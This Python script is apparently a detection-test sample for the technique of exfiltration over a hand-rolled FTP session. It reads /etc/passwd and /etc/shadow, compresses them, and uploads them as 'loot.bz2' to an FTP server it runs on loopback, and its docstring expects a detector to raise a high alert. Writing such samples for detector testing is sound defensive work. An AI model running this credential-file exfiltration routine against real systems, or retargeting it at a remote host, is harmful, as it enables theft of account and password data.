# technique: T1048.003 T1003.008 T1560.001
"""Exfiltration over a hand-rolled FTP session (T1048.003).

Instead of ftplib, the implant speaks FTP itself on raw sockets (USER/PASS,
PASV, STOR) as some small IoT/Python bots do, uploading a bz2-compressed
copy of /etc/passwd and /etc/shadow (when readable). The FTP server is a
minimal loopback implementation with a passive data port.

A good detector raises a high alert: system account/password files are read
and sent to the network.
"""
import bz2, socket, threading

ctl = socket.socket(); ctl.bind(("127.0.0.1", 0)); ctl.listen(1)
dat = socket.socket(); dat.bind(("127.0.0.1", 0)); dat.listen(1)
dport = dat.getsockname()[1]
def ftpd():
    try:
        c, _ = ctl.accept(); c.settimeout(3); f = c.makefile("rb")
        c.sendall(b"220 ftp\r\n")
        for line in f:
            v = line.split()[0].upper() if line.strip() else b""
            if v == b"PASV":
                c.sendall(b"227 Entering Passive Mode (127,0,0,1,%d,%d)\r\n" % (dport >> 8, dport & 255))
            elif v == b"STOR":
                c.sendall(b"150 ok\r\n"); d, _ = dat.accept(); d.settimeout(3)
                while d.recv(65536): pass
                d.close(); c.sendall(b"226 done\r\n")
            elif v == b"QUIT":
                c.sendall(b"221 bye\r\n"); break
            else:
                c.sendall(b"230 ok\r\n")
    except Exception: pass
threading.Thread(target=ftpd, daemon=True).start()

blob = b""
for p in ("/etc/passwd", "/etc/shadow"):
    try: blob += open(p, "rb").read()
    except OSError: pass
try:
    s = socket.create_connection(ctl.getsockname(), timeout=3); r = s.makefile("rb")
    r.readline()
    for cmd in (b"USER anonymous", b"PASS x"):
        s.sendall(cmd + b"\r\n"); r.readline()
    s.sendall(b"PASV\r\n"); resp = r.readline()
    nums = resp[resp.index(b"(") + 1:resp.index(b")")].split(b",")
    d = socket.create_connection((".".join(n.decode() for n in nums[:4]), int(nums[4]) * 256 + int(nums[5])), timeout=3)
    s.sendall(b"STOR loot.bz2\r\n"); r.readline()
    d.sendall(bz2.compress(blob)); d.close(); r.readline()
    s.sendall(b"QUIT\r\n"); r.readline(); s.close()
except Exception:
    pass
